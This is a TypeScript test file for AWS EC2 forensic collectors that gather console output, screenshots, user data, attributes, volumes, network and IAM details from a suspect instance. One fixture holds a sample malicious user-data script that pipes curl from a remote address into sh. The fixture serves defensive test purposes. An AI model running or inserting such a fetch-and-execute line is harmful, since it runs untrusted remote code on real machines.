import { describe, expect, it } from 'vitest';
import type { Collected, Collector } from '../../kernel/index.ts';
import { failure, fakeContext } from '../testing/fake-context.ts';
import { fakeInstance, fakeWorld, TARGET } from '../testing/fake-instance.ts';
import { collector as consoleOutput } from './console-output.ts';
import { collector as consoleScreenshot } from './console-screenshot.ts';
import { collector as describeInstance } from './describe-instance.ts';
import { ATTRIBUTES, collector as instanceAttributes } from './instance-attributes.ts';
import { collector as instanceProfile } from './instance-profile.ts';
import { collector as networkContext } from './network-context.ts';
import { collector as networkInterfaces } from './network-interfaces.ts';
import { collector as securityGroups } from './security-groups.ts';
import { collector as userData } from './user-data.ts';
import { collector as volumes } from './volumes.ts';

const base64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
const collect = async (collector: Collector, ctx: Parameters<Collector['collect']>[0]) => {
  const items: Collected[] = [];
  for await (const item of collector.collect(ctx)) items.push(item);
  return items;
};
const ctx = (answers: Parameters<typeof fakeInstance>[1]) => fakeInstance(fakeWorld(), answers);

it('keeps the console output as the bytes the guest wrote, both buffers', async () => {
  const wrote = Buffer.from([0x1b, 0x5b, 0x33, 0x31, 0x6d, 0xff, 0x0a]);
  const items = await collect(
    consoleOutput,
    ctx({
      answers: {
        'ec2:GetConsoleOutput': ({ input }) => ((input as { Latest?: boolean }).Latest ? failure('UnsupportedOperation') : { Output: base64(wrote) }),
      },
    }),
  );
  expect(items.map((item) => item.name)).toEqual(['console-output', 'console-output-latest']);
  expect(Buffer.from(items[0]!.data!).equals(wrote)).toBe(true);
  expect(items[0]!.reading).toHaveLength(1);
  expect(items[1]!.unavailable).toContain('UnsupportedOperation');
});

it('keeps the screenshot as a picture, never waking the machine', async () => {
  const one = ctx({ answers: { 'ec2:GetConsoleScreenshot': { ImageData: base64(Buffer.from([0xff, 0xd8, 0xff])) } } });
  expect(await collect(consoleScreenshot, one)).toMatchObject([{ mediaType: 'image/jpeg', data: Buffer.from([0xff, 0xd8, 0xff]) }]);
  expect(one.calls[0]?.input).not.toHaveProperty('WakeUp');
});

it('keeps the user data whole, and says when there is none', async () => {
  const script = '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n';
  const some = ctx({ answers: { 'ec2:DescribeInstanceAttribute': { UserData: { Value: base64(script) } } } });
  expect(Buffer.from((await collect(userData, some))[0]!.data!).toString()).toBe(script);
  expect((await collect(userData, ctx({ answers: { 'ec2:DescribeInstanceAttribute': {} } })))[0]?.note?.en).toContain('no user data');
});

it('asks for every attribute once', async () => {
  const one = ctx({});
  expect(await collect(instanceAttributes, one)).toHaveLength(ATTRIBUTES.length);
  expect(new Set(one.calls.map((call) => (call.input as { Attribute: string }).Attribute))).toEqual(new Set(ATTRIBUTES));
});

it('gives instance, volumes, interfaces, groups, network and role', async () => {
  const empty = Object.fromEntries(
    [
      'InstanceStatus',
      'Images',
      'VolumeStatus',
      'Addresses',
      'Subnets',
      'Vpcs',
      'RouteTables',
      'NetworkAcls',
      'FlowLogs',
      'IamInstanceProfileAssociations',
    ].map((name) => [`ec2:Describe${name}`, {}]),
  );
  const world = fakeWorld();
  Object.assign(world.suspect, {
    ImageId: 'ami-0123456789abcdef0',
    SubnetId: 'subnet-0123456789abcdef0',
    IamInstanceProfile: { Arn: 'arn:aws:iam::111122223333:instance-profile/path/web' },
  });
  world.volumes = [{ VolumeId: 'vol-0aaaaaaaaaaaaaaa1' }];
  const all = fakeInstance(world, {
    answers: {
      ...empty,
      'iam:GetInstanceProfile': { InstanceProfile: { Roles: [{ RoleName: 'web' }] } },
      'iam:GetRole': {},
      'iam:ListAttachedRolePolicies': {},
      'iam:ListRolePolicies': { PolicyNames: ['inline'] },
      'iam:GetRolePolicy': {},
    },
  });
  const names = async (one: Collector) => (await collect(one, all)).map((item) => item.name);
  expect(await names(describeInstance)).toEqual(['instance', 'instance-status', 'instance-tags', 'instance-type', 'image']);
  expect(await names(volumes)).toEqual(['volumes', 'volume-status', 'volume-snapshots']);
  expect(await names(networkInterfaces)).toEqual(['network-interfaces', 'addresses']);
  expect(await names(securityGroups)).toEqual(['security-group-membership', 'security-groups', 'security-group-rules']);
  expect(await names(networkContext)).toEqual(['subnet', 'vpc', 'route-tables', 'network-acls', 'flow-logs']);
  expect(await names(instanceProfile)).toEqual([
    'instance-profile-association',
    'instance-profile',
    'role',
    'role-attached-policies',
    'role-inline-policies',
    'role-inline-policy inline',
  ]);
  expect(all.calls.find((call) => call.operation === 'GetInstanceProfile')?.input).toEqual({ InstanceProfileName: 'web' });
});

describe('nothing is thrown when AWS refuses', () => {
  const operations = [
    ...['Instances', 'InstanceStatus', 'Tags', 'InstanceTypes', 'Images', 'InstanceAttribute', 'Volumes', 'NetworkInterfaces', 'Addresses'].map(
      (name) => `ec2:Describe${name}`,
    ),
    'ec2:GetConsoleOutput',
    'ec2:GetConsoleScreenshot',
  ];
  const answers = Object.fromEntries(operations.map((name) => [name, failure('UnauthorizedOperation', 403, 'You are not authorized')]));
  it.each([
    consoleOutput,
    consoleScreenshot,
    describeInstance,
    instanceAttributes,
    instanceProfile,
    networkContext,
    networkInterfaces,
    securityGroups,
    userData,
    volumes,
  ])('$id', async (one) => {
    const items = await collect(one, fakeContext({ answers, target: TARGET }));
    expect(items.length).toBeGreaterThan(0);
    for (const item of items) expect(item).toMatchObject({ unavailable: 'UnauthorizedOperation: You are not authorized' });
  });
});
